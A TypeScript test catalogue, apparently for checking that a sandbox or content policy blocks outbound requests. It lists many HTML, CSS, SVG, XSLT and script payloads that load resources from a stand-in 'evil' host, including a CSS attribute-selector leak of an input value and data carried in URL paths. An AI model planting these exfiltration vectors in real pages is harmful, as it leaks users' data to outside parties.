// Ways by what a page loads: images, styles, fonts, media, icons, and the corners of SVG and CSS that load too.
import { inFamily, type Way } from '../way.ts';

const way = inFamily('subresource', 'load');
const xml = { 'content-type': 'application/xml' };
const svg = { 'content-type': 'image/svg+xml' };

export const SUBRESOURCE: readonly Way[] = [
  way('img', 'an image', (a) => `<img src="${a.evil()}" alt="">`),
  way('img-data', 'an image with data in its path', (a) => `<img src="${a.evil('secret/4711/x')}" alt="">`),
  way('img-https', 'an image over https', (a) => `<img src="${a.evil('x', 'https')}" alt="">`),
  way('img-srcset', 'srcset', (a) => `<img srcset="${a.evil()} 1x" alt="">`),
  way('img-script', 'new Image()', (a) => a.script(`new Image().src = '${a.evil()}'`)),
  way('img-decode', 'Image.decode()', (a) =>
    a.script(`const i = new Image(); i.src = '${a.evil()}'; i.decode()`),
  ),
  way('img-redirect', 'an image of the site that redirects', (a) => `<img src="${a.site('go')}" alt="">`, {
    routes: (a) => ({ go: { status: 302, headers: { location: a.evil() } } }),
  }),
  way('img-login', 'an image with user information', (a) => `<img src="http://u:p@${a.host}/x" alt="">`),
  way(
    'img-dynsrc',
    'lowsrc and longdesc beside a source',
    (a) => `<img src="${a.evil()}" lowsrc="${a.evil('low')}" longdesc="${a.evil('desc')}" alt="">`,
  ),
  way(
    'picture',
    'picture and source',
    (a) => `<picture><source srcset="${a.evil()}"><img src="data:," alt=""></picture>`,
  ),
  way('video', 'a video', (a) => `<video src="${a.evil('v.mp4')}" autoplay muted></video>`),
  way(
    'video-source',
    'a source of a video',
    (a) => `<video autoplay muted><source src="${a.evil('v.mp4')}"></video>`,
  ),
  way('video-poster', 'a poster', (a) => `<video poster="${a.evil()}"></video>`),
  way('audio', 'an audio element', (a) => `<audio src="${a.evil('a.mp3')}" preload="auto"></audio>`),
  way('audio-script', 'new Audio()', (a) => a.script(`new Audio('${a.evil('a.mp3')}').load()`)),
  way('track', 'a text track', (a) =>
    a.script(
      `const v = document.createElement('video'); v.crossOrigin = 'anonymous'; const t = document.createElement('track'); t.src = '${a.evil('t.vtt')}'; t.default = true; t.kind = 'subtitles'; v.append(t); v.src = '${a.site('v.mp4')}'; document.body.append(v); t.track.mode = 'showing'`,
    ),
  ),
  way('style', 'a style sheet', (a) => `<link rel="stylesheet" href="${a.evil('x.css')}">`),
  way(
    'style-alternate',
    'an alternate style sheet',
    (a) => `<link rel="alternate stylesheet" title="x" href="${a.evil('x.css')}">`,
  ),
  way('style-import', '@import', (a) => `<style>@import url("${a.evil('x.css')}");</style>`),
  way(
    'style-import-nested',
    '@import in an own sheet',
    (a) => `<link rel="stylesheet" href="${a.site('a.css')}">`,
    {
      routes: (a) => ({
        'a.css': {
          headers: { 'content-type': 'text/css' },
          body: `@import url("${a.evil('x.css')}") layer(a);`,
        },
      }),
    },
  ),
  way('style-attribute', 'a style attribute', (a) => `<p style="background-image: url('${a.evil()}')">x</p>`),
  way(
    'style-constructed',
    'a constructed style sheet',
    (a) =>
      `<p id="p-${a.id}">x</p>${a.script(`const s = new CSSStyleSheet(); s.replaceSync("#p-${a.id} { background: url('${a.evil()}') }"); document.adoptedStyleSheets.push(s)`)}`,
  ),
  way('style-shadow', 'a style in a shadow root', (a) =>
    a.script(
      `const e = document.createElement('div'); e.attachShadow({ mode: 'closed' }).innerHTML = "<style>p { background: url('${a.evil()}') }</style><p>x</p>"; document.body.append(e)`,
    ),
  ),
  way(
    'css-list',
    'list-style-image',
    (a) => `<ul style="list-style-image: url(${a.evil()})"><li>x</li></ul>`,
  ),
  way(
    'css-border',
    'border-image',
    (a) => `<p style="border: 9px solid; border-image: url(${a.evil()}) 9">x</p>`,
  ),
  way(
    'css-content',
    'content of a pseudo-element',
    (a) => `<style>#c-${a.id}::before { content: url(${a.evil()}) }</style><p id="c-${a.id}">x</p>`,
  ),
  way('css-cursor', 'a cursor', (a) => `<style>html { cursor: url(${a.evil('c.cur')}), auto }</style>`),
  way(
    'css-mask',
    'mask-image',
    (a) => `<p style="mask-image: url(${a.evil()}); width: 9px; height: 9px">x</p>`,
  ),
  way(
    'css-shape',
    'shape-outside',
    (a) => `<p style="float: left; width: 9px; height: 9px; shape-outside: url(${a.evil()})">x</p>`,
  ),
  way('css-image-set', 'image-set()', (a) => `<p style="background: image-set(url(${a.evil()}) 1x)">x</p>`),
  way(
    'css-variable',
    'a custom property',
    (a) => `<p style="--u: url(${a.evil()}); background: var(--u)">x</p>`,
  ),
  way(
    'css-filter',
    'a filter in another document',
    (a) => `<p style="filter: url(${a.evil('f.svg')}#f)">x</p>`,
  ),
  way(
    'css-clip',
    'a clip path in another document',
    (a) => `<p style="clip-path: url(${a.evil('c.svg')}#c)">x</p>`,
  ),
  way(
    'css-attribute',
    'an attribute selector that tells a value',
    (a) =>
      `<style>input[value^="4711"] { background: url(${a.evil('starts-4711')}) }</style><input value="4711" aria-label="x">`,
  ),
  way(
    'css-hover',
    'a rule that a script turns on',
    (a) =>
      `<style>.on-${a.id} { background: url(${a.evil()}) }</style><p id="o-${a.id}">x</p>${a.script(`document.getElementById('o-${a.id}').className = 'on-${a.id}'`)}`,
  ),
  way(
    'font',
    '@font-face',
    (a) =>
      `<style>@font-face { font-family: f-${a.id}; src: url(${a.evil('f.woff2')}) }</style><p style="font-family: f-${a.id}">x</p>`,
  ),
  way('font-script', 'new FontFace().load()', (a) =>
    a.script(`new FontFace('x', 'url(${a.evil('f.woff2')})').load()`),
  ),
  way(
    'font-range',
    'a font for one letter',
    (a) =>
      `<style>@font-face { font-family: r-${a.id}; src: url(${a.evil('r.woff2')}); unicode-range: U+41 }</style><p style="font-family: r-${a.id}">A</p>`,
  ),
  way('svg-image', 'image in SVG', (a) => `<svg><image href="${a.evil()}" width="9" height="9"/></svg>`),
  way(
    'svg-xlink',
    'image in SVG by xlink:href',
    (a) =>
      `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${a.evil()}" width="9" height="9"/></svg>`,
  ),
  way(
    'svg-feimage',
    'feImage in a filter',
    (a) =>
      `<svg><filter id="fe-${a.id}"><feImage href="${a.evil()}"/></filter><rect width="9" height="9" filter="url(#fe-${a.id})"/></svg>`,
  ),
  way('svg-use', 'use of a foreign document', (a) => `<svg><use href="${a.evil('u.svg')}#x"/></svg>`),
  way(
    'svg-use-redirect',
    'use of an own document that redirects',
    (a) => `<svg><use href="${a.site('u.svg')}#x"/></svg>`,
    { routes: (a) => ({ 'u.svg': { status: 302, headers: { location: a.evil('u.svg') } } }) },
  ),
  way('svg-script', 'a script in SVG', (a) => `<svg><script href="${a.evil('x.js')}"></script></svg>`),
  way('svg-document', 'an SVG document with an image', (a) => `<iframe src="${a.site('d.svg')}"></iframe>`, {
    routes: (a) => ({
      'd.svg': {
        headers: svg,
        body: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${a.evil()}" width="9" height="9"/></svg>`,
      },
    }),
  }),
  way(
    'svg-animate',
    'an animated href',
    (a) =>
      `<svg><image width="9" height="9"><animate attributeName="href" values="${a.evil()}" dur="1s" fill="freeze"/></image></svg>`,
  ),
  way('xml-stylesheet', 'xml-stylesheet', (a) => `<iframe src="${a.site('d.xml')}"></iframe>`, {
    routes: (a) => ({
      'd.xml': { headers: xml, body: `<?xml-stylesheet type="text/css" href="${a.evil('x.css')}"?><x>x</x>` },
    }),
  }),
  way('xslt-import', 'an own XSLT that imports', (a) => `<iframe src="${a.site('d.xml')}"></iframe>`, {
    routes: (a) => ({
      'd.xml': { headers: xml, body: `<?xml-stylesheet type="text/xsl" href="${a.site('s.xsl')}"?><x/>` },
      's.xsl': {
        headers: { 'content-type': 'application/xslt+xml' },
        body: `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><img src="${a.evil()}"/></body></html></xsl:template></xsl:stylesheet>`,
      },
    }),
  }),
  way('input-image', 'input type=image', (a) => `<input type="image" src="${a.evil()}" alt="x">`),
  way(
    'background',
    'the background attribute',
    (a) => `<table background="${a.evil()}"><tr><td>x</td></tr></table>`,
  ),
  way(
    'template',
    'a template that is inserted',
    (a) =>
      `<template id="t-${a.id}"><img src="${a.evil()}" alt=""></template>${a.script(`document.body.append(document.getElementById('t-${a.id}').content)`)}`,
  ),
  way('inner-html', 'innerHTML', (a) =>
    a.script(`const e = document.createElement('div'); e.innerHTML = '<img src="${a.evil()}">'`),
  ),
  way('dom-parser', 'a parsed and adopted document', (a) =>
    a.script(
      `document.body.append(new DOMParser().parseFromString('<img src="${a.evil()}">', 'text/html').body.firstChild)`,
    ),
  ),
  way('image-bitmap', 'createImageBitmap of a foreign image', (a) =>
    a.script(
      `const i = new Image(); i.crossOrigin = 'anonymous'; i.src = '${a.evil()}'; i.onerror = () => {}; await createImageBitmap(i)`,
    ),
  ),
  way('canvas', 'an image drawn on a canvas', (a) =>
    a.script(
      `const i = new Image(); i.src = '${a.evil()}'; document.createElement('canvas').getContext('2d').drawImage(i, 0, 0)`,
    ),
  ),
  way(
    'media-session',
    'artwork of a media session',
    (a) =>
      `<img src="${a.evil('artwork')}" alt="">${a.script(`navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: '${a.evil('art')}' }] })`)}`,
  ),
];
